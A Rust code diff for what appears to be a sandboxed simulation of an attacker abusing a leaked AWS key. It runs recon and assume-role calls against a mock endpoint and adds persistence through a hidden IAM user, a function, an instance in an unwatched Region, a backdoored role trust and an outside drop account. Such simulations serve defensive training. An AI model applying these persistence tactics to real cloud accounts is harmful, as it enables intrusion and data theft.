@@ -1,50 +1,67 @@
-//! The attacker: the AWS SDK with a stolen key.
+//! The attacker: the AWS SDK with a stolen key, and with all that it gives way to.
 
-use anyhow::Context as _;
-use aws_config::retry::RetryConfig;
-use aws_config::{AppName, BehaviorVersion, Region, SdkConfig};
-use aws_credential_types::Credentials;
+mod deeds;
+
 use aws_sdk_sts::error::SdkError;
-use aws_smithy_http_client::Builder as HttpClientBuilder;
-use aws_smithy_runtime_api::box_error::BoxError;
-use aws_smithy_runtime_api::client::interceptors::context::BeforeTransmitInterceptorContextMut;
-use aws_smithy_runtime_api::client::interceptors::{Intercept, dyn_dispatch_hint};
-use aws_smithy_runtime_api::client::runtime_components::RuntimeComponents;
-use aws_smithy_types::config_bag::ConfigBag;
 use aws_smithy_types::error::display::DisplayErrorContext;
 use aws_smithy_types::error::metadata::ProvideErrorMetadata;
 use chrono::DateTime;
 
 use super::ATTACKER_IP;
+use super::means::{Means, Origin};
 use crate::aws::{Account, KeyPair};
 use crate::clock::Clock;
 use crate::terminal::{Line, Terminal};
 
-/// Appears in the user agent of each call.
-const APP_NAME: &str = "keyhunter";
+const ORIGIN: Origin = Origin { app: "keyhunter", ip: ATTACKER_IP };
+/// Where calls of the attacker's instance and function come from.
+const INSTANCE: Origin = Origin { app: "worker", ip: "192.0.2.44" };
+const FUNCTION: Origin = Origin { app: "metrics", ip: "192.0.2.61" };
 
-const REGION: &str = "us-east-1";
 const SESSION_SECONDS: i32 = 36 * 3_600;
+/// A Region that nobody in the account looks at.
+const FAR_REGION: &str = "us-west-2";
+/// The user that the attacker makes.
+const OWN_USER: &str = "svc-backup";
+/// The function that the attacker makes.
+const OWN_FUNCTION: &str = "metrics-sync";
+/// The role whose trust the attacker changes.
+const BACKDOOR: &str = "ecs-batch";
+
+/// The attacker's own account, which data is shared with.
+const DROP_ACCOUNT: &str = "444455556666";
 
 /// The credentials in the attacker's hands, each of which is tried in turn.
-#[derive(Clone, Copy, PartialEq, Eq)]
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
 enum Loot {
     Key,
     UserSession,
     RoleSession,
+    OwnUser,
+    Instance,
+    Function,
+    Backdoor,
 }
+
+const ALL: [Loot; 7] =
+    [Loot::Key, Loot::UserSession, Loot::RoleSession, Loot::OwnUser, Loot::Instance, Loot::Function, Loot::Backdoor];
 
 pub(super) struct Attacker {
     aws_url: String,
-    role_arn: String,
+    account: Account,
     clock: Clock,
     terminal: Terminal,
-    key: SdkConfig,
-    user_session: Option<SdkConfig>,
-    role_session: Option<SdkConfig>,
+    key: Means,
+    user_session: Option<Means>,
+    role_session: Option<Means>,
+    own_user: Option<Means>,
+    /// A user of the account that data is taken to.
+    own_account: Means,
+    /// The id of the attacker's instance in the far Region.
+    instance: Option<String>,
     /// What did not work when it was last tried.
     dead: Vec<Loot>,
-    next: Loot,
+    tried: usize,
 }
 
 impl Attacker {
@@ -56,96 +73,140 @@ impl Attacker {
         terminal: Terminal,
     ) -> anyhow::Result<Self> {
         Ok(Self {
-            key: config(aws_url, stolen)?,
+            key: Means::new(aws_url, stolen, ORIGIN)?,
+            own_account: Means::new(aws_url, account.outsider(DROP_ACCOUNT, "mallory"), ORIGIN)?,
             aws_url: aws_url.to_owned(),
-            role_arn: format!("arn:aws:iam::{}:role/app-deploy", account.id()),
+            account: account.clone(),
             clock,
             terminal,
             user_session: None,
             role_session: None,
+            own_user: None,
+            instance: None,
             dead: Vec::new(),
-            next: Loot::Key,
+            tried: 0,
         })
+    }
+
+    fn role_arn(&self, name: &str) -> String {
+        format!("arn:aws:iam::{}:role/{name}", self.account.id())
     }
 
     /// What is done with a key that has just been found.
     pub(super) async fn break_in(&mut self) {
-        let who = sts(&self.key).get_caller_identity().send().await;
+        let who = self.key.sts().get_caller_identity().send().await;
         self.show("aws sts get-caller-identity", &who, |who| who.arn().unwrap_or_default().to_owned());
-        self.list_users().await;
-        let session = sts(&self.key).get_session_token().duration_seconds(SESSION_SECONDS).send().await;
+        self.list_users("", &self.key).await;
+        let session = self.key.sts().get_session_token().duration_seconds(SESSION_SECONDS).send().await;
         self.show(&format!("aws sts get-session-token --duration-seconds {SESSION_SECONDS}"), &session, |session| {
             minted(session.credentials(), &self.clock)
         });
-        self.user_session = session.ok().and_then(|session| self.config_of(session.credentials()));
-        let key = self.key.clone();
-        self.role_session = self.assume_role("", &key).await;
-        self.list_roles().await;
+        self.user_session = session.ok().and_then(|session| self.means_of(session.credentials()));
+        self.role_session = self.assume_role("", &self.key, "app-deploy").await;
+        if let Some(session) = &self.role_session {
+            self.list_roles("app-deploy$ ", session).await;
+        }
     }
 
     /// Tries the next of the credentials. While a session of the user lives, a role session that
     /// has died is replaced by a new one.
     pub(super) async fn try_next(&mut self) {
-        let tried = self.next;
-        let (works, next) = match tried {
-            Loot::Key => (self.list_users().await, Loot::UserSession),
-            Loot::UserSession => {
-                let renewed = match self.user_session.clone() {
-                    Some(session) => self.assume_role("session$ ", &session).await,
-                    None => None,
-                };
-                let works = renewed.is_some();
-                if works && self.dead.contains(&Loot::RoleSession) {
-                    self.role_session = renewed;
-                    self.dead.retain(|loot| *loot != Loot::RoleSession);
+        let tried = ALL[self.tried % ALL.len()];
+        self.tried += 1;
+        let works = match tried {
+            Loot::Key => self.list_users("", &self.key).await,
+            Loot::UserSession => self.renew_role_session().await,
+            Loot::RoleSession => match &self.role_session {
+                Some(session) => self.list_roles("app-deploy$ ", session).await,
+                None => false,
+            },
+            Loot::OwnUser => match &self.own_user {
+                Some(user) => self.list_users(&format!("{OWN_USER}$ "), user).await,
+                None => false,
+            },
+            Loot::Instance => match self.of_instance() {
+                Some(instance) => self.list_roles("instance$ ", &instance).await,
+                None => self.gone("instance$ aws iam list-roles", "the instance does not answer"),
+            },
+            Loot::Function => match self.of_function() {
+                Some(function) => self.list_roles(&format!("{OWN_FUNCTION}$ "), &function).await,
+                None => {
+                    self.gone(&format!("{OWN_FUNCTION}$ aws iam list-roles"), "nothing runs at the function's address")
                 }
-                (works, Loot::RoleSession)
-            }
-            Loot::RoleSession => (self.list_roles().await, Loot::Key),
+            },
+            Loot::Backdoor => self.assume_role("elsewhere$ ", &self.own_account, BACKDOOR).await.is_some(),
         };
         self.dead.retain(|loot| *loot != tried);
         if !works {
             self.dead.push(tried);
         }
-        self.next = next;
+    }
+
+    async fn renew_role_session(&mut self) -> bool {
+        let Some(session) = &self.user_session else { return false };
+        let renewed = self.assume_role("session$ ", session, "app-deploy").await;
+        let works = renewed.is_some();
+        if works && self.dead.contains(&Loot::RoleSession) {
+            self.role_session = renewed;
+            self.dead.retain(|loot| *loot != Loot::RoleSession);
+        }
+        works
     }
 
     pub(super) fn is_locked_out(&self) -> bool {
-        self.dead.len() == 3
+        self.dead.len() == ALL.len()
     }
 
-    async fn list_users(&self) -> bool {
-        let users = aws_sdk_iam::Client::from_conf(iam_config(&self.key)).list_users().send().await;
-        self.show("aws iam list-users", &users, |users| {
+    /// What the attacker's instance acts with, while it runs.
+    fn of_instance(&self) -> Option<Means> {
+        let keys = self.account.instance_credentials(FAR_REGION, self.instance.as_deref()?)?;
+        Means::new(&self.aws_url, keys, INSTANCE).ok()
+    }
+
+    /// What the attacker's function acts with, while it is there.
+    fn of_function(&self) -> Option<Means> {
+        let keys = self.account.function_credentials(super::means::REGION, OWN_FUNCTION)?;
+        Means::new(&self.aws_url, keys, FUNCTION).ok()
+    }
+
+    /// Shows that there is nobody left to call.
+    fn gone(&self, call: &str, detail: &str) -> bool {
+        let (call, detail) = (call.to_owned(), detail.to_owned());
+        self.terminal.push(Line { at: self.clock.now(), call, ok: false, detail });
+        false
+    }
+
+    async fn list_users(&self, prompt: &str, with: &Means) -> bool {
+        let users = with.iam().list_users().send().await;
+        self.show(&format!("{prompt}aws iam list-users"), &users, |users| {
             let names: Vec<&str> = users.users().iter().map(aws_sdk_iam::types::User::user_name).collect();
             names.join(", ")
         });
         users.is_ok()
     }
 
-    async fn list_roles(&self) -> bool {
-        let Some(session) = &self.role_session else { return false };
-        let roles = aws_sdk_iam::Client::from_conf(iam_config(session)).list_roles().send().await;
-        self.show("app-deploy$ aws iam list-roles", &roles, |roles| format!("{} roles", roles.roles().len()));
+    async fn list_roles(&self, prompt: &str, with: &Means) -> bool {
+        let roles = with.iam().list_roles().send().await;
+        self.show(&format!("{prompt}aws iam list-roles"), &roles, |roles| format!("{} roles", roles.roles().len()));
         roles.is_ok()
     }
 
-    async fn assume_role(&self, prompt: &str, with: &SdkConfig) -> Option<SdkConfig> {
-        let request = sts(with).assume_role().role_arn(&self.role_arn).role_session_name("backup-job");
-        let session = request.send().await;
-        let call = format!("{prompt}aws sts assume-role --role-arn {} --role-session-name backup-job", self.role_arn);
+    async fn assume_role(&self, prompt: &str, with: &Means, role: &str) -> Option<Means> {
+        let arn = self.role_arn(role);
+        let session = with.sts().assume_role().role_arn(&arn).role_session_name("backup-job").send().await;
+        let call = format!("{prompt}aws sts assume-role --role-arn {arn} --role-session-name backup-job");
         self.show(&call, &session, |session| minted(session.credentials(), &self.clock));
-        session.ok().and_then(|session| self.config_of(session.credentials()))
+        session.ok().and_then(|session| self.means_of(session.credentials()))
     }
 
-    fn config_of(&self, credentials: Option<&aws_sdk_sts::types::Credentials>) -> Option<SdkConfig> {
+    fn means_of(&self, credentials: Option<&aws_sdk_sts::types::Credentials>) -> Option<Means> {
         let credentials = credentials?;
         let pair = KeyPair {
             access_key_id: credentials.access_key_id().to_owned(),
             secret_access_key: credentials.secret_access_key().to_owned(),
             session_token: Some(credentials.session_token().to_owned()),
         };
-        config(&self.aws_url, pair).ok()
+        Means::new(&self.aws_url, pair, ORIGIN).ok()
     }
 
     fn show<T, E>(&self, call: &str, result: &Result<T, SdkError<E>>, describe: impl Fn(&T) -> String)
@@ -171,47 +232,4 @@ fn minted(credentials: Option<&aws_sdk_sts::types::Credentials>, clock: &Clock) 
         format!("{} until {until}", new.access_key_id())
     };
     credentials.map(shown).unwrap_or_default()
-}
-
-fn sts(config: &SdkConfig) -> aws_sdk_sts::Client {
-    aws_sdk_sts::Client::from_conf(aws_sdk_sts::config::Builder::from(config).interceptor(SourceIp).build())
-}
-
-fn iam_config(config: &SdkConfig) -> aws_sdk_iam::Config {
-    aws_sdk_iam::config::Builder::from(config).interceptor(SourceIp).build()
-}
-
-/// The SDK as the attacker uses it: nothing from this machine's profile, one attempt a call.
-fn config(aws_url: &str, keys: KeyPair) -> anyhow::Result<SdkConfig> {
-    let credentials = Credentials::new(keys.access_key_id, keys.secret_access_key, keys.session_token, None, "stolen");
-    Ok(SdkConfig::builder()
-        .behavior_version(BehaviorVersion::latest())
-        .region(Region::from_static(REGION))
-        .endpoint_url(aws_url)
-        .app_name(AppName::new(APP_NAME).context("the app name")?)
-        .credentials_provider(aws_credential_types::provider::SharedCredentialsProvider::new(credentials))
-        .http_client(HttpClientBuilder::new().build_http())
-        .retry_config(RetryConfig::disabled())
-        .build())
-}
-
-/// Tells the account where the calls come from.
-#[derive(Debug)]
-struct SourceIp;
-
-#[dyn_dispatch_hint]
-impl Intercept for SourceIp {
-    fn name(&self) -> &'static str {
-        "SourceIp"
-    }
-
-    fn modify_before_signing(
-        &self,
-        context: &mut BeforeTransmitInterceptorContextMut<'_>,
-        _: &RuntimeComponents,
-        _: &mut ConfigBag,
-    ) -> Result<(), BoxError> {
-        context.request_mut().headers_mut().insert("x-sandbox-source-ip", ATTACKER_IP);
-        Ok(())
-    }
 }
